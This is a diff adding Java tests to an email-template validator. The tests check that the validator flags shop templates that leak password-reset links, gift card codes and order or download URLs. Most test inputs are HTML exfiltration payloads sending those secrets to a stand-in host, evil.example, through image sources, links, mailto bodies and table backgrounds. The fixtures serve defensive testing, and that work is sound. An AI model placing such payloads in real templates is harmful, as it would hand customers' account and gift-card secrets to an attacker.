@@ -111,6 +111,62 @@ class TemplateRulesTests {
         assertThat(problems(html)).extracting(FieldProblem::code).contains(code);
     }
 
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '~',
+            value = {
+                "RESET_STAFF_PASSWORD | <img src=\"https://evil.example/?t={{link}}\" alt=\"\">",
+                "RESET_STAFF_PASSWORD | <a href=\"https://evil.example/{{#link}}{{/link}}\">x</a><p>evil.example/?{{link}}</p>",
+                "RESET_STAFF_PASSWORD | <a href=\"{{shopUrl}}.evil.example/{{link}}\">x</a>",
+                "RESET_STAFF_PASSWORD | <table background='https://evil.example/{{ link }}'></table>",
+                "STAFF_INVITATION | <a href=\"mailto:a@evil.example?body={{link}}\">x</a>",
+                "RESET_PASSWORD | <p>https://evil.example/?t={{link}}</p>",
+                "RESET_PASSWORD | <p>evil.example/?{{#link}}{{link}}{{/link}}</p>",
+                "RESET_PASSWORD | <p>{{shopUrl}}{{link}}</p>",
+                "GIFT_CARD | <img src=\"https://evil.example/{{code}}.png\" alt=\"\">",
+                "GIFT_CARD | <p>www.evil.example?{{! x }}{{code}}</p>",
+                "DOWNLOADS | {{#files}}<img src=\"https://evil.example/?{{url}}\" alt=\"\">{{/files}}",
+                "ORDER_PLACED | <img src=\"https://evil.example/?{{orderUrl}}\" alt=\"\">",
+                "REVIEW_INVITATION | <img src=\"https://evil.example/?{{optOutUrl}}\" alt=\"\">"
+            })
+    void sendsNoSecretOfTheRecipientToAnotherSite(MailKind kind, String html) {
+        assertThat(TemplateCheck.problems(kind, new MailSource("Subject", html, "Text")))
+                .filteredOn(problem -> problem.code().equals("secret-in-address"))
+                .isNotEmpty()
+                .extracting(FieldProblem::pointer)
+                .containsOnly("/html");
+    }
+
+    @Test
+    void takesSecretsWhereOnlyTheRecipientSeesThem() {
+        assertThat(TemplateCheck.problems(
+                        MailKind.RESET_STAFF_PASSWORD,
+                        new MailSource(
+                                "{{shopName}}",
+                                "<a href=\"{{link}}\">Set a password</a> ({{link}}) <p>Link:&nbsp;{{link}}</p>",
+                                "{{#link}}{{link}}{{/link}}\nor (<{{link}}>)")))
+                .isEmpty();
+        assertThat(TemplateCheck.problems(
+                        MailKind.GIFT_CARD, new MailSource("{{value}}", "<b>{{code}}</b>", "Code:{{code}}")))
+                .isEmpty();
+        assertThat(TemplateCheck.problems(
+                        MailKind.BACK_IN_STOCK,
+                        new MailSource(
+                                "x", "<a href=\"https://example.com/?to={{link}}\">x</a>", "{{shopUrl}}/{{link}}")))
+                .as("the page of a product is no secret")
+                .isEmpty();
+    }
+
+    @Test
+    void secretsAreNeitherInSubjectsNorInAddressesOfTexts() {
+        assertThat(TemplateCheck.problems(
+                        MailKind.GIFT_CARD,
+                        new MailSource("Your code {{code}}", "<p>x</p>", "https://evil.example/?{{code}}")))
+                .extracting(problem -> problem.pointer() + " " + problem.code())
+                .containsExactly("/subject secret-in-subject", "/text secret-in-address");
+    }
+
     @Test
     void namesTheUnknownVariableAndThoseThatThereAre() {
         var problem = problems("<p>\n{{orderNumbr}}</p>").getFirst();
